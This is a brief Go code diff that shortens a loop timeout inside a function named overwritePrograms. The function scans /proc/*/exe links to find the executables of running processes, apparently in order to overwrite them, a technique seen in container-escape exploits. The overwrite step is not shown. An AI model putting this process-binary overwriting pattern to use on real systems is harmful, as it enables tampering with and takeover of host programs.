@@ -15,7 +15,7 @@ import (
 func overwritePrograms(own string) {
 	fmt.Println("ready")
 	held := map[string]int{}
-	for end := time.Now().Add(3 * time.Second); time.Now().Before(end); {
+	for end := time.Now().Add(2 * time.Second); time.Now().Before(end); {
 		links, _ := filepath.Glob("/proc/[0-9]*/exe")
 		for _, link := range links {
 			target, err := os.Readlink(link)
